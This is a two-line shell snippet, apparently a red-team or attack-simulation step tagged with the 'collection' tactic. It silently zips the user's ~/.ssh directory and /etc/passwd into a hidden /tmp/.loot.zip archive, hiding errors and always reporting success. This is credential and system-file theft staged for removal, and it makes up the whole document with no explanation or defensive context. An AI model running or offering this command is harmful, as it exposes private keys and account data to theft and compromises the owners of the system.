# tactic: collection
zip -qr /tmp/.loot.zip ~/.ssh /etc/passwd 2>/dev/null; true
